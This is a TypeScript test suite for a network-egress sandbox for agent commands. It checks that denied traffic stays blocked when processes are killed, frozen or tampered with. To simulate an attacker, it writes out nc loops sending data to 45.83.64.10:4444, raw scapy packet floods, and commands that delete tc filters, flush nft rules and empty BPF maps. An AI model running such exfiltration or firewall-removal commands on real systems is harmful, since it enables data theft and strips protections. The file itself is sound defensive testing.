/**
 * Whatever part of a run dies, freezes or is taken away, nothing passes that the policy denies. A hostile process stays in the agent's
 * network all the time, outside the sandbox, and never stops trying; what counts is what arrives.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { argumentsOf, containedAttacker, descendantsOf, eventually, isGone, networksHeld } from './attacker.ts';
import { cofferdam, containedUnavailable } from './contained.ts';
import { type Battlefield, datagramsCome, dials, harass, policy, speaks, startBattlefield } from './siege.ts';

describe('never open', { skip: containedUnavailable(), timeout: 170_000 }, () => {
  let field: Battlefield;

  before(async () => {
    field = await startBattlefield();
  });
  after(() => field?.lab.stop());

  test('control: without a gateway, all of it arrives', async () => {
    const since = await field.lab.mark();
    await field.free.run(harass);
    await eventually('arrivals at the attacker', async () => {
      const arrivals = await field.lab.arrivals({ since });
      return (
        ['datagram', 'connection'].every((kind) => arrivals.some((a) => a.kind === kind && a.server === 'attacker')) &&
        arrivals.some(({ server }) => server === 'public-dns')
      );
    });
    await field.free.run('harassing[0] = False');
    await pause(300);
  });

  describe('a process is killed', () => {
    test('cofferdam', async () => {
      await field.besiege(async ({ agent, survivor, holds }) => {
        assert.ok(await speaks(survivor), 'control: the permitted flow lives');
        const ours = descendantsOf(agent.pid);
        process.kill(agent.pid, 'SIGKILL');
        await eventually('the command dies with it', () => ours.every(isGone));
        await holds();
        assert.ok(!(await speaks(survivor)), 'what was permitted is closed too');
        assert.notEqual(await dials(survivor, '104.131.20.7', 5000), 'open');
      });
    });
    test('the sandbox, and the command', async () => {
      for (const victim of ['bwrap', 'command'] as const) {
        await field.besiege(async ({ agent, holds }) => {
          const pid =
            victim === 'command'
              ? agent.commandPid
              : descendantsOf(agent.pid).find((one) => argumentsOf(one)[0]?.endsWith('bwrap'));
          assert.ok(pid !== undefined);
          process.kill(pid, 'SIGKILL');
          const { code } = await agent.process.ended;
          assert.equal(code, 137);
          assert.ok(isGone(agent.commandPid));
          await holds();
        });
      }
    });
    test('at any moment of its start', async () => {
      const file = join(field.lab.directory, 'policy.yaml');
      await writeFile(file, policy);
      const since = await field.lab.mark();
      const already = (await field.denied()).length;
      // The command tries what is denied as soon as it lives.
      const command = ['sh', '-c', 'while :; do echo denied | nc -u -w0 45.83.64.10 4444; done'];
      for (const milliseconds of [150, 300, 400, 500, 600, 700, 800, 1000]) {
        const started = field.lab.spawn('host', [cofferdam, 'run', '--quiet', '--policy', file, '--', ...command]);
        await pause(milliseconds);
        const all = descendantsOf(started.child.pid!);
        const run = all.find((pid) => argumentsOf(pid).some((word) => word.endsWith('cli/src/main.ts')));
        if (run !== undefined) process.kill(run, 'SIGKILL');
        await started.ended;
        await eventually('all of it is gone', () => all.every(isGone));
      }
      assert.deepEqual(await field.lab.arrivals({ since, server: 'attacker' }), []);
      assert.deepEqual((await field.denied()).slice(already), []);
    });
  });

  describe('the kernel program is detached', () => {
    const ways: Readonly<Record<string, readonly string[]>> = {
      'from the agent’s direction': ['tc', 'filter', 'del', 'dev', 'agent0', 'ingress'],
      'from the direction toward it': ['tc', 'filter', 'del', 'dev', 'agent0', 'egress'],
      'with all of its discipline': ['tc', 'qdisc', 'del', 'dev', 'agent0', 'clsact'],
    };
    for (const [what, argv] of Object.entries(ways)) {
      test(what, async () => {
        await field.besiege(async ({ agent, survivor, holds }) => {
          assert.ok(await speaks(survivor), 'control');
          assert.ok(await datagramsCome(survivor), 'control');
          const removed = await agent.enter('gateway', argv);
          assert.equal(removed.code, 0, removed.stderr);
          await holds();
          assert.ok(!(await speaks(survivor)), 'a flow that was permitted stands still');
          assert.notEqual(await dials(survivor, '104.131.20.7', 5000), 'open');
          if (!argv.includes('ingress'))
            assert.ok(!(await datagramsCome(survivor)), 'no server reaches the agent any more');
          await holds();
        });
      });
    }
  });

  /** Maps of the program, by name, through the descriptors that the run holds. */
  const mapsOf = (pid: number): readonly number[] =>
    readdirSync(`/proc/${pid}/fdinfo`).flatMap((fd) => {
      const id = /^map_id:\s*(\d+)$/m.exec(readFileSync(`/proc/${pid}/fdinfo/${fd}`, 'utf8'))?.[1];
      return id === undefined ? [] : [Number(id)];
    });

  test('the tables of the program are emptied', async () => {
    await field.besiege(async ({ agent, survivor, holds }) => {
      const emptied: string[] = [];
      for (const id of new Set(mapsOf(agent.pid))) {
        const shown = await field.lab.exec('host', ['bpftool', '-j', 'map', 'show', 'id', String(id)]);
        const { name, type } = JSON.parse(shown.stdout) as { name: string; type: string };
        if (!['hash', 'lpm_trie', 'hash_of_maps', 'lru_hash'].includes(type)) continue;
        const dumped = await field.lab.exec('host', ['bpftool', '-j', 'map', 'dump', 'id', String(id)]);
        const keys = (JSON.parse(dumped.stdout || '[]') as { key: readonly string[] }[]).map(({ key }) => key);
        if (keys.length === 0) continue;
        const batch = keys
          .slice(0, 3000)
          .map((key) => `map delete id ${id} key hex ${key.map((byte) => byte.slice(2)).join(' ')}\n`);
        const deleted = await field.lab.exec('host', ['bpftool', 'batch', 'file', '-'], { input: batch.join('') });
        if (deleted.code === 0) emptied.push(name);
        await holds();
      }
      assert.ok(emptied.includes('flows'), emptied.join());
      assert.ok(!(await speaks(survivor)), 'a flow that is not known is none');
    });
    await field.besiege(async ({ agent, survivor, holds }) => {
      let zeroed = false;
      for (const id of new Set(mapsOf(agent.pid))) {
        const shown = await field.lab.exec('host', ['bpftool', '-j', 'map', 'show', 'id', String(id)]);
        const { name, bytes_value } = JSON.parse(shown.stdout) as { name: string; bytes_value: number };
        if (!name.startsWith('control')) continue;
        const zeros = Array.from({ length: bytes_value }, () => '0');
        const done = await field.lab.exec('host', [
          'bpftool',
          'map',
          'update',
          'id',
          String(id),
          'key',
          '0',
          '0',
          '0',
          '0',
          'value',
          ...zeros,
        ]);
        zeroed ||= done.code === 0;
      }
      assert.ok(zeroed);
      await holds();
      assert.notEqual(await dials(survivor, '104.131.20.7', 5000), 'open', 'no plan is no permit');
    });
  });

  test('the rules of the gateway’s netfilter are taken away', async () => {
    for (const words of [
      'delete table inet cofferdam',
      'flush ruleset',
      'flush table inet cofferdam',
      'flush chain inet cofferdam classify',
      'flush chain inet cofferdam forward',
      'flush chain inet cofferdam input',
    ]) {
      await field.besiege(async ({ agent, holds }) => {
        const done = await agent.enter('gateway', ['nft', ...words.split(' ')]);
        assert.equal(done.code, 0, done.stderr);
        await holds();
      });
    }
  });

  test('our process is frozen: what the kernel decides goes on, names do not resolve, nothing opens', async () => {
    await field.besiege(async ({ agent, survivor, holds }) => {
      const known = await agent.run<string>(`result = socket.gethostbyname('example.com')`);
      agent.freeze();
      try {
        await holds();
        assert.ok(await speaks(survivor), 'a live flow goes on');
        assert.equal(await dials(survivor, '104.131.20.7', 5000), 'open', 'a new one by address too');
        assert.equal(await dials(survivor, known, 443), 'open', 'and one to a name that was resolved');
        const asked = await agent.attempt(`
          s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
          s.settimeout(1)
          s.sendto(b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + b'\\x08registry\\x07example\\0\\0\\x01\\0\\x01', ('198.18.0.1', 53))
          s.recv(500)
        `);
        assert.ok('error' in asked, 'a new name has no answer');
        // The proxy's listener takes the connection for it, and nothing answers a request: that lasts as long as the freeze.
        const since = await field.lab.mark();
        const request = await survivor.run<{ end: string; data: string }>(
          `
          s = socket.create_connection((args['to'], 80), 2)
          s.sendall(b'GET / HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n')
          result = fate(s, 1)
          `,
          { to: known },
        );
        assert.deepEqual([request.end, request.data], ['open', '']);
        assert.deepEqual(await field.lab.arrivals({ since, kind: 'request' }), []);
        await holds();
      } finally {
        agent.thaw();
      }
      await eventually(
        'names resolve again',
        async () => !('error' in (await agent.attempt(`socket.gethostbyname('registry.example')`))),
      );
      await holds();
    });
  });

  test('more events than the ring holds', async () => {
    await field.besiege(async ({ agent, survivor, holds }) => {
      const known = await agent.run<string>(`result = socket.gethostbyname('example.com')`);
      agent.freeze();
      try {
        // Each of these is a denial of its own, and so an event.
        await survivor.run(`
          from scapy.all import IP, UDP, Ether
          link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
          link.bind(('eth0', 0))
          whole = bytearray(bytes(Ether(src='02:cf:fd:00:00:02', dst='02:cf:fd:00:00:01') / IP(src='198.18.0.2', dst='45.83.64.10') / UDP(sport=1, dport=4444, chksum=0) / b'denied'))
          for n in range(40000):
              whole[34:36] = struct.pack('>H', 1 + n % 65000)
              whole[36:38] = struct.pack('>H', 4400 + n % 7)
              link.send(whole)
        `);
        await holds();
        assert.equal(await dials(survivor, known, 443), 'open', 'what is permitted is');
      } finally {
        agent.thaw();
      }
      await eventually(
        'it decides about names again',
        async () => !('error' in (await agent.attempt(`socket.gethostbyname('registry.example')`))),
      );
      await holds();
      const { code, stderr } = await agent.stop();
      assert.equal(code, 0);
      assert.match(stderr, /\d+ events came faster than they were read/, 'and says so');
    });
  });

  describe('an error that nobody catches', () => {
    /** Loaded into the process of the run, it breaks something there once a file is there. */
    const breaking = (how: string, file: string): string => `
      import { existsSync } from 'node:fs';
      const look = setInterval(() => {
        if (!existsSync(${JSON.stringify(file)})) return;
        clearInterval(look);
        ${how}
      }, 20);
      look.unref();
    `;
    const hostState = async (): Promise<string> =>
      (
        await Promise.all(
          [
            ['nft', 'list', 'ruleset'],
            ['ip', '-o', 'link'],
            ['ip', 'route', 'show', 'table', 'all'],
            ['sysctl', 'net.ipv4.ip_forward', 'net.ipv6.conf.all.forwarding', 'net.ipv6.conf.eth0.accept_ra'],
          ].map(async (argv) => {
            const { code, stdout, stderr } = await field.lab.exec('host', argv);
            assert.equal(code, 0, stderr);
            return stdout;
          }),
        )
      ).join('\n');
    for (const [what, how] of [
      ['thrown', `throw new TypeError('provoked\\nfor a test');`],
      ['a promise that fails', `void Promise.reject(new TypeError('provoked\\nfor a test'));`],
      ['and again and again', `setInterval(() => { throw new TypeError('provoked\\nfor a test'); }, 1);`],
    ] as const) {
      test(what, async () => {
        const trigger = join(field.lab.directory, `break-${what.replaceAll(' ', '-')}`);
        await writeFile(`${trigger}.mjs`, breaking(how, trigger));
        const before = await hostState();
        const since = await field.lab.mark();
        const agent = await containedAttacker(field.lab, {
          policy,
          options: ['--quiet'],
          env: { NODE_OPTIONS: `--import=${trigger}.mjs` },
        });
        try {
          const networks = networksHeld(agent.pid).map(({ network }) => network.replace(/\D/g, ''));
          assert.equal(networks.length, 2, 'control');
          // What the command left in the background ends with it.
          await agent.run(`import subprocess; subprocess.Popen(['sleep', '1000'], start_new_session=True)`);
          const survivor = await agent.rawAttacker();
          await survivor.run(harass);
          const rounds = () => survivor.run<number>('result = rounds[0]');
          await eventually('attempts', async () => (await rounds()) > 3);
          assert.notEqual(await hostState(), before, 'control: there is something to undo');
          const all = descendantsOf(agent.pid);
          assert.ok(all.length >= 3, 'control');

          await writeFile(trigger, '');
          const { code, stderr } = await agent.process.ended;
          assert.equal(code, 125);
          assert.match(
            stderr,
            /^cofferdam: an error of cofferdam itself ended the run; nothing was opened: TypeError: provoked\\x0afor a test \(at .*\)\n$/,
          );
          assert.deepEqual(
            all.filter((pid) => !isGone(pid)),
            [],
            'the command and what it started are gone',
          );
          assert.equal(await hostState(), before);
          const from = await rounds();
          await eventually('a dozen more rounds of attempts', async () => (await rounds()) > from + 12);
          const arrivals = await field.lab.arrivals({ since });
          assert.deepEqual(
            arrivals.filter(({ server }) => server === 'attacker' || server === 'public-dns'),
            [],
          );
          await agent.stop();
          await eventually('its networks are gone', async () => {
            const { stdout } = await field.lab.exec('host', ['lsns', '-n', '-t', 'net', '-o', 'NS']);
            return networks.every((one) => !stdout.includes(one));
          });
        } finally {
          await agent.stop();
        }
      });
    }
  });

  test('a full disk under the log', async () => {
    await field.lab.exec('host', ['sh', '-c', 'mkdir -p /run/full && mount -t tmpfs -o size=16k tmpfs /run/full']);
    const file = join(field.lab.directory, 'full.yaml');
    await writeFile(file, policy);
    const since = await field.lab.mark();
    const command = `for i in $(seq 1 60); do echo x | nc -w1 -u 45.83.64.10 $((4000 + i)) & done; wait; curl -sS -o /dev/null -w '%{http_code}' https://example.com/; exit 3`;
    const { code, stdout, stderr } = await field.lab.exec(
      'host',
      [cofferdam, 'run', '--quiet', '--log', '/run/full/flows', '--policy', file, '--', 'sh', '-c', command],
      { env: field.lab.ca.environment },
    );
    assert.deepEqual([code, stdout], [3, '200']);
    assert.match(stderr, /records could not be written: ENOSPC/);
    assert.deepEqual(await field.lab.arrivals({ since, server: 'attacker' }), []);
  });
});
